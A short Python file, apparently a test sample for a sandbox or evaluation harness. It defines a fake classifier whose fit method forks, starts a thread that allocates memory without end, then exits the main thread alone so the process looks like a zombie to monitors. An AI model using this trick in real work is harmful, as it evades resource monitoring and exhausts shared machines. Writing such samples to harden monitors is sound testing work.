"""End the first thread of a process and allocate in another: to many eyes the process is a zombie."""

import ctypes
import os
import threading
import time

import numpy as np


def allocate():
    time.sleep(0.5)
    held = []
    while True:
        held.append(np.ones((8, 1 << 17)))  # 8 MiB
        time.sleep(0.01)


class Classifier:
    def fit(self, X, y):
        pid = os.fork()
        if pid == 0:
            threading.Thread(target=allocate).start()
            libc = ctypes.CDLL(None)
            libc.syscall(60 if os.uname().machine == "x86_64" else 93, 0)  # exit: of this thread only
        time.sleep(10**6)

    def predict_proba(self, X):
        return np.full((len(X), 3), 1 / 3)
